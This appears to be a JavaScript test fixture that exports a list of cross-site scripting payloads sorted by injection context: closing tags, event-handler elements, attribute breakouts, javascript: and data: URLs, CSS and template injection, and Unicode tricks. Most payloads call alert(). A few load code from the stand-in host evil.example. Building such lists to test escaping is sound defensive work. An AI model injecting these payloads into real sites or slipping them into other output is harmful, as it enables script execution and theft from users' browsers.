/** Texts that run as script, or change the page, wherever a page forgets to escape. Each calls `alert` in its own way. */

/** Ends the element that it was put into. */
const CLOSING_TAGS = [
  "<script>alert(1)</script>",
  "</script><script>alert(2)</script>",
  "</SCRIPT ><ScRiPt>alert(3)</sCrIpT>",
  "</title><script>alert(4)</script>",
  "</textarea><script>alert(5)</script>",
  "</style><script>alert(6)</script>",
  "</option></select><script>alert(7)</script>",
  "</template><script>alert(8)</script>",
  "</noscript><img src=x onerror=alert(9)>",
  "</td></tr></table><script>alert(10)</script>",
  "--><script>alert(11)</script><!--",
  "<!--><script>alert(12)</script>",
  "<![CDATA[<script>alert(13)</script>]]>",
  "<scr<script>ipt>alert(14)</scr</script>ipt>",
  "%3Cscript%3Ealert(15)%3C/script%3E",
  "&lt;script&gt;alert(16)&lt;/script&gt;",
  "\u003cscript\u003ealert(17)\u003c/script\u003e",
  "<\u0131mg/src=x onerror=alert(18)>",
];

/** Elements that run something by themselves. */
const ELEMENTS = [
  "<img src=x onerror=alert(20)>",
  "<svg onload=alert(21)>",
  "<svg/onload=alert(22)//",
  "<svg><animate onbegin=alert(23) attributeName=x dur=1s>",
  "<svg><script>alert(24)</script></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(25)>#x'>",
  "<math><mi xlink:href=javascript:alert(26)>x</mi></math>",
  "<iframe srcdoc='<script>alert(27)</script>'>",
  "<object data=data:text/html,<script>alert(28)</script>>",
  "<embed src=javascript:alert(29)>",
  "<details open ontoggle=alert(30)>",
  "<input autofocus onfocus=alert(31)>",
  "<video><source onerror=alert(32)></video>",
  "<body onload=alert(33)>",
  "<form action=javascript:alert(34)><button>go</button></form>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(35)'>",
  "<marquee onstart=alert(36)>",
];

/** Ends the attribute that it was put into. */
const ATTRIBUTES = [
  `"><script>alert(40)</script>`,
  `'><script>alert(41)</script>`,
  `" onmouseover="alert(42)" x="`,
  `' onmouseover='alert(43)' x='`,
  `" autofocus onfocus=alert(44) x="`,
  `" style="animation-name:x" onanimationstart="alert(45)`,
  "` onmouseover=alert(46) `",
  `x" srcdoc="<script>alert(47)</script>`,
  `"/><svg onload=alert(48)>`,
  `x=1 onclick=alert(49)`,
];

/** Run when a link or a form leads to them. */
const ADDRESSES = [
  "javascript:alert(50)",
  "JaVaScRiPt:alert(51)",
  "java\tscript:alert(52)",
  "java\nscript:alert(53)",
  " javascript:alert(54)",
  "javascript://shop.example/%0aalert(55)",
  "javascript&colon;alert(56)",
  "data:text/html,<script>alert(57)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCg1OCk8L3NjcmlwdD4=",
  "vbscript:msgbox(59)",
  "//evil.example/x.js",
  "https://shop.example/javascript:alert(60)?next=javascript:alert(61)",
];

/** Where a text becomes part of a colour, a width or a script. */
const CODE = [
  "red;background:url(javascript:alert(70))",
  "100%;position:fixed;inset:0;width:expression(alert(71))",
  "}</style><style>*{background:url(https://evil.example)}",
  "fill-service-0 x onload=alert(72)",
  "0 0 onload=alert(73)",
  "';alert(74);//",
  "\\';alert(75);//",
  "\\u0027);alert(76);//",
  "${alert(77)}",
  "{{constructor.constructor('alert(78)')()}}",
  "`${alert(79)}`",
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(80)>"}}}',
  '["Slot",0]',
  "<!--frsh:slot:0--><img src=x onerror=alert(81)><!--/frsh:slot:0-->",
  "<!--/frsh:island:0--><template id=frsh-slot-0><img src=x onerror=alert(82)></template>",
];

/** Characters that hide or reorder what stands around them, or that are line ends for scripts alone. */
const CHARACTERS = [
  "\u202e<script>alert(90)</script>\u202c",
  "\u2066\u2067alert(91)\u2069",
  "line\u2028alert(92)\u2029<script>alert(92)</script>",
  "\ufeff<script>alert(93)</script>",
  "\u001b]8;;javascript:alert(94)\u0007x\u001b]8;;\u0007",
  "\uff1cscript\uff1ealert(95)\uff1c/script\uff1e",
  "x\r\n\r\n<script>alert(96)</script>",
  "\u{1d530}\u200b\u00ad<img src=x onerror=alert(97)>",
];

export const XSS_PAYLOADS = [
  ...CLOSING_TAGS,
  ...ELEMENTS,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...CODE,
  ...CHARACTERS,
];
